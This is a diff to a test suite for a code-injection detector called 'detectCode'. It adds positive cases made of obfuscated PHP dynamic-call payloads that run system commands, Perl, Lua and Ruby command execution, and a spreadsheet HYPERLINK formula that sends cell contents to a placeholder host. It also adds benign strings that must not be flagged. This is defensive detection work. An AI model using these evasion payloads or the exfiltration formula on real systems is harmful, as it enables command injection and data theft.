@@ -37,6 +37,20 @@ describe('detectCode', () => {
     ['python-code', "open('/x').read()"],
     ['node-code', 'process.env.KEY'],
     ['windows-script', 'Process.Start("calc")'],
+    ['php-call', "$__['o'](5)"],
+    ['php-call', "${'a'}(11)"],
+    ['php-call', '$$b(2)'],
+    ['php-call', '$o->$m()'],
+    ['php-call', '$f(101).$f(120)'],
+    ['php-call', "$a='sys'.'tem';$a('id')"],
+    ['php-call', "(sy.(st).em)('uname')"],
+    ['php-call', '[system]/* */[0](ls)'],
+    ['php-call', "usort($_GET,'system')"],
+    ['php-call', "register_shutdown_function('system','id')"],
+    ['perl-code', "@{[ system 'id' ]}"],
+    ['spreadsheet-formula', '=HYPERLINK("http://a.example/?x="&A1,"b")'],
+    ['lua-code', 'os.execute("id")'],
+    ['ruby-code', 'Process.spawn("id")'],
   ])('finds %s in %s', (why, text) => {
     expect(words(text)).toContain(why);
   });
@@ -57,6 +71,16 @@ describe('detectCode', () => {
     'a subprocess. The next one',
     'process.environment',
     '() {',
+    'Node.js process.env explained',
+    'A$AP(2012)',
+    '$99(税込)',
+    '${name}(5)',
+    '${product.name}(red)',
+    '(red)(XL)',
+    '[text][0]',
+    "translate('system')",
+    '@{name}',
+    '=5+3',
   ])('leaves %s alone', (text) => {
     expect(words(text)).toEqual([]);
   });
